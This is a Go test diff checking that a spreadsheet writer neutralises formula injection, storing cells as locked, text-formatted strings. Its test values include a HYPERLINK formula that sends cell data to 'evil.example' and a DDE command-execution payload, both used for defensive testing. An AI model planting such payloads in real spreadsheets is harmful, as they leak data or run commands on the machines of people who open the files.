@@ -10,6 +10,8 @@ import (
 	"syscall"
 	"testing"
 
+	"github.com/xuri/excelize/v2"
+
 	"qmdesk/data"
 )
 
@@ -83,5 +85,64 @@ func TestWriteIgnoresAPlantedTmpLink(t *testing.T) {
 	}
 	if target, err := os.Readlink(path + ".tmp"); err != nil || target != victim {
 		t.Errorf("the planted link: %q %v", target, err)
+	}
+}
+
+// A text that could start a formula is written as a string after the
+// guard, in a cell formatted as text; every text cell is a string cell,
+// never a formula; a phone number or a dash stays as it is.
+func TestWriteGuardsFormulas(t *testing.T) {
+	values := []string{`=HYPERLINK("http://evil.example/?"&A1,"คลิก")`, "+cmd|' /C calc'!A0", "@SUM(A1)", "＝1+1", "-ไม่มี", "+66 81 234 5678", "-", "สมชาย"}
+	path := filepath.Join(t.TempDir(), "guard.xlsx")
+	tbl := Table{Sheet: "ข้อมูล", Header: []string{"ข้อความ", "รหัส"}, Text: []bool{false, true}, RowCount: len(values),
+		Protect: true, Locked: []bool{true, false},
+		Row: func(i int) ([]any, []bool) { return []any{values[i], values[i]}, nil }}
+	if err := Write(path, []Table{tbl}, ""); err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	for i, v := range values {
+		for col := 1; col <= 2; col++ {
+			cell, _ := excelize.CoordinatesToCellName(col, i+2)
+			got, _ := f.GetCellValue("ข้อมูล", cell)
+			if got != data.FormulaSafe(v) {
+				t.Errorf("%s: %q, want %q", cell, got, data.FormulaSafe(v))
+			}
+			if formula, _ := f.GetCellFormula("ข้อมูล", cell); formula != "" {
+				t.Errorf("%s is a formula: %q", cell, formula)
+			}
+			if typ, _ := f.GetCellType("ข้อมูล", cell); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
+				t.Errorf("%s is of type %v, not a string", cell, typ)
+			}
+			id, _ := f.GetCellStyle("ข้อมูล", cell)
+			st, _ := f.GetStyle(id)
+			if data.NeedsFormulaGuard(v) && st.NumFmt != 49 {
+				t.Errorf("%s (%q) is not formatted as text: format %d", cell, v, st.NumFmt)
+			}
+			if col == 1 && (st.Protection == nil || !st.Protection.Locked) {
+				t.Errorf("%s lost its lock", cell)
+			}
+		}
+	}
+	// Our reader gives the text as written, guard and all: the importer
+	// takes the guard off (data.FromFormulaSafe).
+	wb, err := Open(path, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer wb.Close()
+	var read []string
+	wb.Rows("ข้อมูล", func(row int, cells []string) error {
+		if row > 1 {
+			read = append(read, data.FromFormulaSafe(cells[0]))
+		}
+		return nil
+	})
+	if strings.Join(read, "|") != strings.Join(values, "|") {
+		t.Errorf("read back %q", read)
 	}
 }
